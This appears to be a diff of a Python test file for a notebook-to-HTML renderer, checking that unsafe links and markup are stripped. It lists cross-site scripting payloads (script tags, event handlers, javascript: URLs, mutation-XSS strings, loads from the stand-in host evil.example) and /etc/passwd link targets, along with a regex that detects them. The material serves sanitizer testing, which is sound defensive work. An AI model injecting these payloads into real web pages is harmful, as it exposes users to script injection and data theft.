@@ -29,7 +29,7 @@ def test_prose_code_and_results_are_shown(tmp_path):
 
 def test_pictures_keep_their_description(tmp_path):
     ours = html_output(
-        f'<figure style="margin:0"><img alt="Đường đi" src="data:image/png;base64,{PICTURE}" style="max-width:100%"></figure>'
+        f'<figure style="x"><img alt="Đường đi" src="data:image/png;base64,{PICTURE}" style="y"></figure>'
     )
     plain = nbformat.v4.new_output("display_data", {"image/png": PICTURE}, metadata={"image/png": {"alt": 'a"b'}})
     text = shown(tmp_path, code("1", ours, plain))
@@ -41,25 +41,49 @@ def test_pictures_keep_their_description(tmp_path):
 def test_links_lead_to_files_beside_the_notebook_or_to_the_web(tmp_path):
     (tmp_path / "trend vi.png").write_bytes(b"")
     (tmp_path.parent / "above.png").write_bytes(b"")
-    links = ["trend%20vi.png", "missing.png", "../above.png", "https://example.vn/", "javascript:alert(1)", "/etc/passwd",
-             "file:///etc/passwd", "//evil.example/x", "data:text/html,x", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)"]  # fmt: skip
+    links = [
+        "trend%20vi.png",
+        "missing.png",
+        "../above.png",
+        "https://example.vn/",
+        "javascript:alert(1)",
+        "/etc/passwd",
+        "file:///etc/passwd",
+        "//evil.example/x",
+        "data:text/html,x",
+        "JaVaScRiPt:alert(1)",
+        "&#106;avascript:alert(1)",
+    ]
     text = shown(tmp_path, code("1", html_output("".join(f'<a href="{one}">x</a>' for one in links))))
     assert re.findall(r'href="([^"]*)"', text) == ["../run/trend%20vi.png", "https://example.vn/"]
 
 
 TRICKS = [
-    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)><script>alert(1)</script></svg>", "<iframe src='javascript:alert(1)'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x></object><embed src=x>",
-    "<form action=//evil.example><input name=q><button>x</button></form>", "<a href='javascript:alert(1)'>x</a>",
-    "<style>@import '//evil.example/x.css'</style>", "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<template><script>alert(1)</script></template>", "<video src=//evil.example/x autoplay></video>",
+    "<script>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=x></object><embed src=x>",
+    "<form action=//evil.example><input name=q><button>x</button></form>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<video src=//evil.example/x autoplay></video>",
     "<p style='background:url(//evil.example/x)' onclick=alert(1) id=language class='skip hidden'>x</p>",
-    "<img src='https://evil.example/pixel.png'>", "<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<!--><script>alert(1)</script>-->", "</section></main><script>alert(1)</script>", "<a href='x' ping='//evil.example'>x</a>",
-]  # fmt: skip
+    "<img src='https://evil.example/pixel.png'>",
+    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<!--><script>alert(1)</script>-->",
+    "</section></main><script>alert(1)</script>",
+    "<a href='x' ping='//evil.example'>x</a>",
+]
 HARM = re.compile(
     r"<(?:script|iframe|object|embed|form|input|button|style|link|meta|base|svg|math|video|template|noscript)\b"
     r"|\son\w+=|javascript:|srcdoc|ping=|\sid=\"language|class=\"[^\"]*(?:skip|hidden)|(?:src|href)=\"?(?:https?:)?//",
